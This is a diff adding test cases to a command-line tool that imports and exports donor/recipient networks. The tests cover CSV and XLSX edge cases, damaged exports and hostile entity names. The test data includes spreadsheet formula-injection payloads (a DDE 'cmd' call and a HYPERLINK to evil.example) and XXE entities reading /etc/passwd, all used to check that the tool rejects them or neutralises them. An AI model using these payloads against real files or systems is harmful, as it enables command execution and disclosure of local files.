@@ -329,3 +329,212 @@ case("run-out-under-a-file", Error(r"influence: error: "))(out_under_a_file)
 case("run-out-in-proc", Error(r"influence: error: "))(lambda folder: ["run", "--data", str(TINY), "--out", "/proc/influence-out"])
 case("export-out-is-a-folder", Error(r"influence: error: "))(
     lambda folder: (folder.joinpath("x.csv").mkdir(), ["export", "--data", str(TINY), "--format", "csv", "--out", str(folder / "x.csv")])[1])
+
+# ---------------------------------------------------------------- import-edges: spreadsheets
+GOOD_ROW = "Carol Doe,Dan PAC,2500"
+
+
+def import_csv(text: str, *, suffix: str = ".csv", extra: tuple[str, ...] = ()):
+    def build(folder: Path) -> list[str]:
+        path = folder / f"gifts{suffix}"
+        path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
+        return ["import-edges", str(path), "--source-col", "Donor", "--target-col", "Recipient",
+                "--amount-col", "Amount", "--out", str(folder / "out"), *extra]
+    return build
+
+
+def imported(amounts: dict[str, str] | None = None, *, skipped_lines: tuple[int, ...] = (), read: int | None = None):
+    """Check: the written relationships have these amounts by id, these lines were reported skipped, counts add up."""
+    def check(folder: Path, out: str) -> None:
+        rows = list(csv.DictReader(open(folder / "out" / "relationships.csv", encoding="utf-8")))
+        if amounts is not None:
+            assert {r["id"]: r["amount_usd"] for r in rows} == amounts, rows
+        for line in skipped_lines:
+            assert re.search(rf"gifts\.\w+:{line}: ", out), out
+        found = re.search(r"read (\d+) rows", out)
+        written = re.search(r"imported (\d+) relationships", out)
+        skipped = re.search(r"skipped (\d+) rows", out)
+        assert int(found.group(1)) == int(written.group(1)) + (int(skipped.group(1)) if skipped else 0), out
+        if read is not None:
+            assert int(found.group(1)) == read, out
+    return check
+
+
+HEADER = "Donor,Recipient,Amount\n"
+case("import-unquoted-million", Ok(imported({"gifts-3": "2500"}, skipped_lines=(2,))))(
+    import_csv(HEADER + "Alice Doe,Bob PAC,$1,000,000\n" + GOOD_ROW + "\n"))
+case("import-quoted-million", Ok(imported({"gifts-2": "1000000"})))(import_csv(HEADER + 'Alice Doe,Bob PAC,"$1,000,000"\n'))
+case("import-only-bad-row", Error(r"no row of [^\n]*gifts\.csv could be imported"))(
+    import_csv(HEADER + "Alice Doe,Bob PAC,$1,000,000\n"))
+for text in AMOUNTS_REFUSED:
+    if "," in text or text == "$5":  # $5 is dollars in a spreadsheet (import-edges strips a leading $)
+        continue
+    case(f"import-amount-refused-{text!r}", Ok(imported({"gifts-3": "2500"}, skipped_lines=(2,))))(
+        import_csv(HEADER + f"Alice Doe,Bob PAC,{text}\n" + GOOD_ROW + "\n"))
+for text, value in {"١٠٠٠": "1000", "１００": "100", "$25,000": "25000", "25000 USD": "25000", "$ 7": "7"}.items():
+    quoted = f'"{text}"' if "," in text else text
+    case(f"import-amount-ok-{text!r}", Ok(imported({"gifts-2": value})))(import_csv(HEADER + f"Alice Doe,Bob PAC,{quoted}\n"))
+case("import-short-row", Ok(imported({"gifts-2": "", "gifts-3": "2500"})))(import_csv(HEADER + "Alice Doe,Bob PAC\n" + GOOD_ROW + "\n"))
+case("import-bom-crlf", Ok(imported({"gifts-2": "2500"})))(import_csv("\ufeff" + HEADER.replace("\n", "\r\n") + GOOD_ROW + "\r\n"))
+case("import-tsv", Ok(imported({"gifts-2": "2500"})))(import_csv("Donor\tRecipient\tAmount\nCarol Doe\tDan PAC\t2500\n", suffix=".tsv"))
+case("import-formula-names", Ok(imported({"gifts-2": "2500"})))(import_csv(HEADER + '"=HYPERLINK(""http://x"")",@evil,2500\n'))
+case("import-huge-cell", Error(r"gifts\.csv:2: \(row\): unreadable CSV"))(import_csv(HEADER + "A," + "b" * 1_100_000 + ",5\n"))
+case("import-unclosed-quote", Error(r"gifts\.csv:2: \(row\)|no row"))(import_csv(HEADER + '"Alice,Bob,5\n'))
+case("import-binary", Error(r"gifts\.csv:\d+: \(encoding\)"))(import_csv(bytes(range(256))))
+case("import-latin1", Error(r"gifts\.csv:2: \(encoding\)"))(import_csv((HEADER + "Zo\xeb,Bob,5\n").encode("latin-1")))
+case("import-empty", Error(r"gifts\.csv: the file is empty"))(import_csv(""))
+case("import-header-only", Error(r"no row of"))(import_csv(HEADER))
+case("import-no-such-column", Error(r"no column 'Amount'"))(import_csv("Donor,Recipient\nA,B\n"))
+case("import-unknown-suffix", Error(r"expected a \.csv"))(import_csv(HEADER, suffix=".pdf"))
+case("import-folder", Error(r"gifts\.csv:0: \(file\): a folder"))(
+    lambda folder: (folder.joinpath("gifts.csv").mkdir(), import_csv("")(folder.joinpath("elsewhere")) if False else
+                    ["import-edges", str(folder / "gifts.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
+case("import-missing", Error(r"nothing\.csv:0: \(file\): file not found"))(
+    lambda folder: ["import-edges", str(folder / "nothing.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])
+case("import-fifo", Error(r"gifts\.csv:0: \(file\): not a regular file"))(
+    lambda folder: (os.mkfifo(folder / "gifts.csv"),
+                    ["import-edges", str(folder / "gifts.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
+case("import-dev-zero", Error(r"gifts\.xlsx:0: \(file\): not a regular file"))(
+    lambda folder: ((folder / "gifts.xlsx").symlink_to("/dev/zero"),
+                    ["import-edges", str(folder / "gifts.xlsx"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
+case("import-amount-on-associate", Ok(imported({"gifts-2": "2500"})))(import_csv(HEADER + GOOD_ROW + "\n"))
+
+
+def xlsx_bytes(rows: list[list], *, dimension: str | None = None, patch: Callable[[str], str] | None = None) -> bytes:
+    """An .xlsx written by openpyxl, optionally with its sheet's ``<dimension>`` or XML rewritten."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    for row in rows:
+        sheet.append(row)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    if dimension is None and patch is None:
+        return buffer.getvalue()
+    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                text = data.decode("utf-8")
+                if dimension is not None:
+                    text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', text)
+                if patch is not None:
+                    text = patch(text)
+                data = text.encode("utf-8")
+            target.writestr(item, data)
+    return out.getvalue()
+
+
+XLSX_ROWS = [["Donor", "Recipient", "Amount"]] + [[f"Donor {n}", f"PAC {n}", 1000 * n] for n in range(1, 7)]
+ALL_SIX = {f"gifts-{n + 1}": str(1000 * n) for n in range(1, 7)}
+case("xlsx-ok", Ok(imported(ALL_SIX, read=6)))(lambda folder: import_csv(xlsx_bytes(XLSX_ROWS), suffix=".xlsx")(folder))
+case("xlsx-understated-dimension", Ok(imported(ALL_SIX, read=6)))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1:C2"), suffix=".xlsx")(folder))
+case("xlsx-single-cell-dimension", Ok(imported(ALL_SIX, read=6)))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1"), suffix=".xlsx")(folder))
+case("xlsx-overstated-dimension", Ok(imported(ALL_SIX, read=6)))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1:Z900"), suffix=".xlsx")(folder))
+case("xlsx-unsaved-formula", Error(r"gifts\.xlsx:3: cell C3: formula with no saved value"))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS[:2] + [["Alice", "Bob PAC", "=5500000*2"]]), suffix=".xlsx")(folder))
+case("xlsx-saved-formula", Ok(imported({"gifts-2": "11000000"})))(
+    lambda folder: import_csv(xlsx_bytes([XLSX_ROWS[0], ["Alice", "Bob PAC", "=5500000*2"]],
+                                         patch=lambda t: t.replace("<f>5500000*2</f><v></v>", "<f>5500000*2</f><v>11000000</v>")
+                                         .replace("<f>5500000*2</f>", "<f>5500000*2</f><v>11000000</v>")), suffix=".xlsx")(folder))
+case("xlsx-formula-names", Ok(imported({"gifts-2": "5"})))(
+    lambda folder: import_csv(xlsx_bytes([XLSX_ROWS[0], ["+cmd|' /C calc'!A0", "-2+3", 5]]), suffix=".xlsx")(folder))
+case("xlsx-fake", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(import_csv(HEADER + GOOD_ROW, suffix=".xlsx"))
+case("xlsx-truncated", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS)[:900], suffix=".xlsx")(folder))
+case("xlsx-encrypted", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
+    import_csv(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), suffix=".xlsx"))
+
+
+def _zip_of(files: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as target:
+        for name, data in files.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+case("xlsx-empty-zip", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(import_csv(_zip_of({}), suffix=".xlsx"))
+case("xlsx-zip-of-text", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
+    import_csv(_zip_of({"readme.txt": b"hello"}), suffix=".xlsx"))
+XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+case("xlsx-xxe", Error(r"gifts\.xlsx:\d+: \((file|sheet)\): "))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, patch=lambda t: XXE + re.sub(r"^<\?xml[^>]*\?>", "", t).replace(">Donor 1<", ">&x;<")),
+                              suffix=".xlsx")(folder))
+case("xlsx-corrupt-sheet-xml", Error(r"gifts\.xlsx:\d+: \((file|sheet)\): "))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, patch=lambda t: t[: len(t) // 2]), suffix=".xlsx")(folder))
+case("xlsx-no-such-sheet", Error(r"no sheet 'Gifts'"))(
+    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS), suffix=".xlsx", extra=("--sheet", "Gifts"))(folder))
+
+# ---------------------------------------------------------------- read-back of our exports, damaged
+def exported(fmt: str, name: str, damage: Callable[[bytes], bytes] | None = None):
+    """Export the tiny data as ``fmt``, optionally damage the file, and validate it as --data."""
+    def build(folder: Path) -> list[str]:
+        from analysis.cli import main
+        path = folder / name
+        assert main(["export", "--data", str(TINY), "--format", fmt, "--out", str(path)]) == 0
+        if damage is not None:
+            path.write_bytes(damage(path.read_bytes()))
+        return ["validate", "--data", str(path)]
+    return build
+
+
+EXPORTS = {"graphml": "g.graphml", "gexf": "g.gexf", "json": "g.json", "ftm": "g.ftm.json", "csv": "edges.csv",
+           "relationships": "relationships.csv"}
+DAMAGE = {
+    "truncated": lambda raw: raw[: len(raw) // 2],
+    "binary": lambda raw: bytes(range(256)) + raw,
+    "empty": lambda raw: b"",
+}
+for fmt, name in EXPORTS.items():
+    case(f"readback-{fmt}-intact", Ok())(exported(fmt, name))
+    for damage_name, damage in DAMAGE.items():
+        if fmt == "ftm" and damage_name == "empty":  # FtM JSON lines: an empty file is an empty network
+            case(f"readback-{fmt}-{damage_name}", Ok())(exported(fmt, name, damage))
+            continue
+        case(f"readback-{fmt}-{damage_name}", Error(re.escape(name) + r"(:\d+)?: "))(exported(fmt, name, damage))
+case("readback-json-wrong-shape", Error(r"g\.json:\d+: "))(
+    exported("json", "g.json", lambda raw: b'{"nodes": 5, "links": "x", "graph": []}'))
+case("readback-json-list", Error(r"g\.json:\d+: "))(exported("json", "g.json", lambda raw: b"[1, 2, 3]"))
+case("readback-ftm-not-objects", Error(r"g\.ftm\.json:\d+: "))(exported("ftm", "g.ftm.json", lambda raw: b'{"schema": 1}\n[]\n"x"\n'))
+case("readback-graphml-xxe", Error(r"g\.graphml:\d+: "))(exported(
+    "graphml", "g.graphml", lambda raw: b'<?xml version="1.0"?><!DOCTYPE g [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    + re.sub(rb"^<\?xml[^>]*\?>", b"", raw).replace(b"Acme Corp", b"&x;")))
+
+
+# ---------------------------------------------------------------- hostile names: outputs stay inert and exact
+def _no_live_formula(folder: Path, out: str) -> None:
+    for path in (folder / "out").rglob("*.csv"):
+        for row in csv.reader(open(path, encoding="utf-8")):
+            for cell in row:
+                assert not re.match(r"^[=+\-@\t\r]", cell) or re.match(r"^[+-]?[0-9.]+(e[+-]?[0-9]+)?$", cell), (path, cell)
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
+                 "\tTabbed", "Red \x1b[31m escape", "$$x$$ money", "<script>alert(1)</script>", "'=quoted already",
+                 "Name\u202eevil", "x" * 5000]
+for number, name in enumerate(HOSTILE_NAMES):
+    def build(folder, name=name):
+        return ["run", "--data", str(with_entity_name(name)(folder)), "--out", str(folder / "out")]
+    if number < 6 or number in (8,):
+        case(f"run-hostile-name-{number}", Ok(_no_live_formula))(build)
+    else:
+        case(f"run-hostile-name-{number}", Ok())(build)
+    def build_roundtrip(folder, name=name):
+        data = with_entity_name(name)(folder)
+        from analysis.cli import main
+        assert main(["export", "--data", str(data), "--format", "relationships", "--out", str(folder / "r.csv")]) == 0
+        return ["export", "--data", str(folder / "r.csv"), "--format", "nodes", "--out", str(folder / "nodes.csv")]
+
+    def roundtrip_check(folder: Path, out: str, name=name) -> None:
+        from network.formats.read import read_data
+        names = set(read_data(folder / "r.csv").entities["name"])
+        # a hand-written cell "'=x" reads as "=x": the quote is taken as our own neutralization (docs/exports.md)
+        assert re.sub(r"^'(?=[=+\-@])", "", name.strip()) in names, names
+    case(f"roundtrip-hostile-name-{number}", Ok(roundtrip_check))(build_roundtrip)
